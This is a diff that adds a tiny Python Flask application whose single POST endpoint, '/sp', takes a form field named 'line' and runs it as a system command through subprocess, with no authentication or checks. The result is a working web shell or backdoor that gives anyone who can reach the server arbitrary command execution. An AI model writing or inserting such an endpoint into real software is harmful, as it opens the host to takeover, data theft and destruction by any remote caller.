@@ -1,0 +1,12 @@
+import shlex
+import subprocess
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.post("/sp")
+def sp():
+    line = request.form["line"]
+    subprocess.run(shlex.split(line), check=True)
+    return "ok"
